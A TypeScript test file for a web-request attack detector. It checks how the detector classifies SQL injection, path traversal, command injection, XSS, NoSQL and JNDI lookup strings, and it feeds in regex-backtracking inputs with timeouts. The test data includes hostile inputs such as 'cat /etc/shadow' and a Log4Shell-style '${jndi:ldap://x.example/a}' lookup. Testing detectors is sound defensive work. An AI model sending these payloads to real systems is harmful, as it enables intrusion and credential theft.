// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the values under test are lookup and shell expressions, not templates
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, test } from 'node:test';
import { detectPayload, inspectRequest, parseQueryString } from './detect.js';
import { MAX_EVIDENCE_CHARS } from './evidence.js';

describe('detectPayload', () => {
  test('one finding per class, with short neutralised evidence', () => {
    const found = detectPayload("1' OR '1'='1 --\r\n", { key: 'id', location: 'query' });
    assert.deepEqual(
      found.map((f) => f.class),
      ['sqli'],
    );
    const evidence = found[0]?.evidence ?? '';
    assert.ok(evidence.length <= MAX_EVIDENCE_CHARS);
    assert.ok(!/[\r\n]/.test(evidence));
  });

  test('values that are not strings find nothing and never throw', () => {
    for (const value of [['a b'], { a: 1 }, 123, true, null, undefined, ["' or 1=1--"]]) {
      assert.deepEqual(detectPayload(value as unknown as string), [], JSON.stringify(value));
      assert.deepEqual(detectPayload(value as unknown as string, { key: 'q', location: 'query' }), []);
    }
    assert.deepEqual(detectPayload('../../etc/passwd', { key: 7 as unknown as string })[0]?.class, 'path_traversal');
    const odd = inspectRequest({
      query: { q: 1 } as unknown as string,
      params: [{ location: 'body', key: 1 as unknown as string, value: ['x'] as unknown as string }],
    });
    assert.deepEqual(odd.classes, []);
  });

  test('a value can carry several classes', () => {
    const classes = detectPayload('../../etc/passwd;cat /etc/shadow').map((f) => f.class);
    assert.deepEqual(classes.sort(), ['cmdi', 'path_traversal']);
  });

  test('ordinary values find nothing', () => {
    for (const value of [
      'Jane Doe',
      'jane.doe@example.com',
      'search for red shoes',
      '{"a":1,"b":[true,null]}',
      'https://example.com/path?x=1',
      'dGhpcyBpcyBhIHRva2Vu',
      '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
      '2024-05-01T10:00:00Z',
      '',
    ]) {
      assert.deepEqual(detectPayload(value), [], value);
    }
  });
});

describe('parseQueryString', () => {
  test('splits, decodes, keeps keys without values', () => {
    assert.deepEqual(parseQueryString('a=1&b=x+y&c&d=%3Cb%3E'), [
      ['a', '1'],
      ['b', 'x y'],
      ['c', ''],
      ['d', '<b>'],
    ]);
  });
});

describe('inspectRequest', () => {
  test('path, query keys and values, and inspected params, with locations', () => {
    const result = inspectRequest({
      path: '/files/..%2f..%2fetc/passwd',
      query: 'q=%3Csvg%20onload%3Dalert(1)%3E&user[$ne]=x&page=2',
      params: [
        { location: 'header', key: 'user-agent', value: '${jndi:ldap://x.example/a}' },
        { location: 'body', key: 'name', value: "O'Brien" },
      ],
    });
    assert.deepEqual(result.classes, ['jndi', 'nosqli', 'path_traversal', 'xss']);
    assert.deepEqual(result.locations, ['header.user-agent', 'path', 'query.q', 'query.user[$ne]']);
  });

  test('a clean request finds nothing', () => {
    const result = inspectRequest({ path: '/api/v1/users/42', query: 'include=orders&sort=-created' });
    assert.deepEqual(result, { classes: [], locations: [], findings: [] });
  });
});

// Values built to make a backtracking pattern try every way of splitting them. Before, the first took 2 s at 110
// characters and doubled with every 4 more, the second 21 s at 96, the third 6 s at 2 KB. Synchronous code cannot be
// timed out in place, so they run in a child process with a deadline far above what they take now (milliseconds).
test('values built against the patterns are answered at once', () => {
  const script = `
    const { detectPayload } = await import(${JSON.stringify(import.meta.resolve('./detect.js'))});
    const values = [
      'cat' + ' --a'.repeat(40) + ' /x',
      'for ' + '/d '.repeat(40) + 'x=',
      'onclick=1 "' + ' '.repeat(4000) + 'x',
      ('{' + ','.repeat(200)).repeat(40),
      '\\r\\n'.repeat(4000) + 'x',
    ];
    console.log(JSON.stringify(values.map((v) => detectPayload(v, { location: 'header' }).map((f) => f.class))));`;
  const run = spawnSync(process.execPath, ['--input-type=module', '-e', script], { timeout: 10_000, encoding: 'utf8' });
  assert.equal(run.signal, null, 'detection did not finish within 10 s');
  assert.equal(JSON.parse(run.stdout).length, 5);
});

// Runs of line breaks (`%0a` repeated, as a query can carry 2 730 of them in 8 KB) and of `on` in one word: each break,
// and each `on`, used to start a match that read the rest of the run again, so a value took work in the square of
// its length: 0.4 s for the first of these, 0.14 s for the last, for every value of every event, on the thread that
// answers ingest. In a child process with a deadline: 200 of them took about 50 s, and take well under one now.
test('runs of line breaks and of `on` take time linear in the value', () => {
  const script = `
    const { detectPayload } = await import(${JSON.stringify(import.meta.resolve('./detect.js'))});
    const values = ['\\n'.repeat(8192), '\\r\\n'.repeat(4096), '\\n '.repeat(4096), '%0a'.repeat(2730), "'" + 'on'.repeat(4095) + '='];
    const found = [];
    for (let round = 0; round < 8; round++)
      for (const location of ['query', 'body', 'header', 'path', undefined])
        for (const v of values) found.push(detectPayload(v, location ? { location } : {}).map((f) => f.class).join());
    console.log(JSON.stringify(found.length));`;
  const run = spawnSync(process.execPath, ['--input-type=module', '-e', script], { timeout: 10_000, encoding: 'utf8' });
  assert.equal(run.signal, null, 'detection did not finish within 10 s');
  assert.equal(JSON.parse(run.stdout), 200);
});
